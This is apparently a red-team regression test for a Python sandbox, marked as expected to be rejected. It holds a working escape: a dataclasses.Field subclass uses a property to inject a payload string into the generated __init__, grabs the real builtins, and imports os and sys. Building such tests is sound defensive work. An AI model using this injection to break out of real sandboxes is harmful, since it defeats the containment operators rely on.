# technique: a program subclass of dataclasses.Field hides the name slot behind a class-level property: dataclasses re-reads the name after the checks and pastes it into the generated __init__ (found by the red team after the first fixes)
# source: issue 14 red team; the runtime layer refuses it alone too (tests/runtime/test_run.c f15_field_subclass_property)
# family: 15
# expect: rejected
# rules: PV303
# bytecode: PV508
import dataclasses

box = []
calls = [0]
PAYLOAD = ("a=0, *, zz=[d.__subclasses__()[-1].keep.append(d.__init__.__globals__['__builtins__'])"
           " for d in ().__class__.__base__.__subclasses__() if d.__name__ == 'Field'], zy=0")


def getn(self):
    calls[0] += 1
    if calls[0] == 5:
        return PAYLOAD
    return "a"


def setn(self, v):
    pass


class F(dataclasses.Field):
    name = property(getn, setn)
    keep = box


f = F(0, dataclasses.MISSING, True, True, None, True, None, False)
try:
    @dataclasses.dataclass
    class A:
        a: int = f
except TypeError:
    pass

real = box[0]
print("GOT", real["__import__"], real["open"], real["eval"])
ga = real["getattr"]
os = real["__import__"]("os")
print("os.getpid() =", ga(os, "getpid")(), "sys.modules has", len(ga(real["__import__"]("sys"), "modules")))
